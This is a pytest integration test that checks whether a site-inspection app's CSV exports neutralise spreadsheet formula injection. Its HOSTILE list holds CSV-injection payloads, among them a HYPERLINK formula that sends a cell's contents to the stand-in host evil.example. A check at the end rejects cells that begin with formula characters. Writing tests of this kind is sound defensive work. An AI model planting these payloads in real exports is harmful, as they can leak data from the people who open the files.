"""Every CSV export neutralises cells a spreadsheet would run as a formula (OWASP CSV injection): a site named
`=HYPERLINK(...)` or `@SUM(1+1)` must reach the risk board CSV and the findings CSV as text."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from xunjian.risk import service as risk
from xunjian.sites.tables import Site

from tests.integration.jobs import factory

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
SITES = ["YL-620102-001", "YL-620103-002", "YL-620123-003", "YL-620502-004", "YL-620503-005", "FC-62010201"]


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


@pytest.fixture
async def hostile_sites(demo):
    codes = [c for c in SITES if c in demo.sites]
    assert len(codes) == len(HOSTILE), sorted(demo.sites)
    now = factory.utcnow()
    for code, name in zip(codes, HOSTILE):
        await Site.update({Site.name: name}).where(Site.code == code)
        await factory.finding(demo.sites[code], demo.users["inspector"], grade="major",
                              deadline=now + timedelta(days=10), title=name)
    await risk.rate_sites(now + timedelta(seconds=1))
    return dict(zip(codes, HOSTILE))


@pytest.mark.parametrize("url, name_column", [("/api/risk/board.csv", 1), ("/api/findings/export.csv", 2)])
async def test_a_site_named_like_a_formula_is_text_in_every_export(client, as_user, hostile_sites, url,
                                                                   name_column):
    rows = _cells(await client.get(url, headers=await as_user("admin")))
    names = {row[name_column] for row in rows[1:]}
    for name in hostile_sites.values():
        assert "'" + name in names, (name, sorted(names))
        assert name not in names
    # No cell of the export starts a formula.
    assert not [c for row in rows[1:] for c in row if c[:1] in ("=", "+", "@", "\t", "\r")
                or (c[:1] == "-" and not _number(c))]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
